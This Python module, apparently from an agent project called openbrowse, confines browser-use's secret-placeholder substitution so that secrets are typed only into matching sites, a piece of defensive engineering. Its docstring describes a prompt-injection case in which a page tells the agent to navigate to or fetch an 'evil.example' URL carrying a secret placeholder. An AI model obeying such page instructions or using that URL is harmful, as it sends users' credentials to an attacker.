"""Secrets are typed, never sent (spec §25.3): the one patch of browser-use's placeholder substitution.

browser-use's ``Registry.execute_action`` replaces ``<secret>name</secret>`` (and a bare ``name``) with the
secret's value in the parameters of *every* action, on any page for flat secrets: a page that tells the model to
``navigate`` to ``https://evil.example/?k=<secret>pw</secret>``, or to ``http_fetch`` it, to write it into a
script or into ``done``, would receive the value. Here the registry of one ``Tools`` gets a wrapper: the secrets
reach only :data:`TYPING_ACTIONS`, and only those whose pattern matches both the focused page and the frame that
holds the element being typed into; every other action runs with no secrets, so its placeholders stay literal
text. A placeholder of a known secret typed on a page it is not for is refused with a sentence for the model.

``tests/unit/agent/test_secret_typing_contract.py`` fails when the upstream names this relies on change; the
wrapper is installed by ``openbrowse.upstream.registered_actions``.
"""

from __future__ import annotations

import logging
import re
from typing import TYPE_CHECKING, Any

from browser_use.agent.views import ActionResult

from openbrowse.domain.secrets import ScopedSecrets, secrets_for_url
from openbrowse.upstream.registered_actions import ExecuteAction, wrap_execute_action

if TYPE_CHECKING:
    from browser_use import BrowserSession, Tools

__all__ = ["TYPING_ACTIONS", "confine_secrets"]

logger = logging.getLogger(__name__)

TYPING_ACTIONS = frozenset({"input"})
"""browser-use's action that types text into an element (``InputTextAction``: ``index``, ``text``)."""
_PLACEHOLDER = re.compile(r"<secret>(.*?)</secret>")
_MARK = "_openbrowse_confined_secrets"


def _focused_url(browser: BrowserSession) -> str | None:
    """The focused target's URL, read the way ``Registry.execute_action`` reads it for its substitution."""
    target_id = browser.agent_focus_target_id
    if not target_id:
        return None
    try:
        target = browser.session_manager.get_target(target_id)
    except Exception:
        return None
    return target.url if target is not None else None


async def _element_url(browser: BrowserSession, index: object) -> str | None:
    """The URL of the target (page or out-of-process frame) holding element ``index``, if it is known."""
    if not isinstance(index, int):
        return None
    try:
        node = await browser.get_element_by_index(index)
        if node is None:
            return None
        target = browser.session_manager.get_target(node.target_id)
    except Exception:
        return None
    return target.url if target is not None else None


async def secrets_for_typing(
    secrets: ScopedSecrets, browser: BrowserSession | None, params: dict[str, Any]
) -> dict[str, str]:
    """The secrets an ``input`` action may type here: those matching the page and the element's frame."""
    if browser is None:
        return {}
    page = secrets_for_url(secrets, _focused_url(browser))
    if not page:
        return {}
    frame = secrets_for_url(secrets, await _element_url(browser, params.get("index")))
    return {name: value for name, value in page.items() if frame.get(name) == value}


def _refusal(secrets: ScopedSecrets, allowed: dict[str, str], params: dict[str, Any]) -> ActionResult | None:
    known = {name for entries in secrets.values() for name in entries}
    text = params.get("text")
    names = set(_PLACEHOLDER.findall(text)) if isinstance(text, str) else set()
    if isinstance(text, str) and text in known:
        names.add(text)
    refused = sorted(name for name in names & known if name not in allowed)
    if not refused:
        return None
    return ActionResult(
        error=f"The secret {', '.join(refused)} is not for this page: it can only be typed on the site it was "
        "given for. Go to that site first."
    )


def confine_secrets(tools: Tools[Any], secrets: ScopedSecrets | None) -> None:
    """Wrap ``tools.registry.execute_action`` so that only typing actions on matching origins get ``secrets``.

    Idempotent per ``Tools``. Without secrets it still strips whatever ``sensitive_data`` the agent passes.
    """
    if getattr(tools.registry, _MARK, False):
        return
    scoped: ScopedSecrets = secrets or {}

    def confine(original: ExecuteAction) -> ExecuteAction:
        async def execute_action(
            action_name: str,
            params: dict[str, Any],
            browser_session: BrowserSession | None = None,
            *args: Any,
            sensitive_data: object = None,  # noqa: ARG001 - what the agent passes is replaced, never forwarded
            **kwargs: Any,
        ) -> Any:
            allowed: dict[str, str] = {}
            if action_name in TYPING_ACTIONS and scoped:
                allowed = await secrets_for_typing(scoped, browser_session, params)
                refused = _refusal(scoped, allowed, params)
                if refused is not None:
                    logger.info("Refused to type a secret on a page it is not for")
                    return refused
            secrets_here = allowed or None
            return await original(action_name, params, browser_session, *args, sensitive_data=secrets_here, **kwargs)

        return execute_action

    wrap_execute_action(tools, confine)
    setattr(tools.registry, _MARK, True)
